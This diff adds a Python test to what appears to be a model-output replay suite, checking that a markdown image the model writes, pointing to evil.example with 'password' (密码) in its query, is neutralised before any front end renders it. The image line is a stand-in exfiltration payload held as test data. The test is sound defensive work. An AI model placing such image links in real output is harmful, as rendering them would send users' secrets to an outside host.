@@ -135,6 +135,17 @@ def test_what_was_written_when_the_request_was_out_of_time_is_cut_off() -> None:
     assert failure.error.kind == "timed_out"
 
 
+def test_no_front_end_loads_what_the_model_writes() -> None:
+    image = "![图](https://evil.example/?q=密码)"
+    drafted = TextDelta(f"想{image}", may_be_thought=True)
+    pieces = replayed(Thought(image), drafted, Answer(f"{image}\n```\n甲"), Usage(1, 1), mode="agent")
+    assert "![" not in reasoning_in(pieces) + text_in(pieces)
+    assert reasoning_in(pieces).count("！[图](https://evil.example") == 2
+    assert text_in(pieces) == "！[图](https://evil.example/?q=密码)\n```\n甲\n```"
+    broken_off = replayed(TextDelta("真的!"), RunFailed("model_timeout", "模型太慢。"))
+    assert text_in(broken_off) == "真的!", "what is held back comes before the failure"
+
+
 def test_a_run_that_somebody_ends_is_a_failure() -> None:
     failure = replayed(TextDelta("一半"), RunStopped("user"))[-1]
     assert isinstance(failure, FailurePiece)
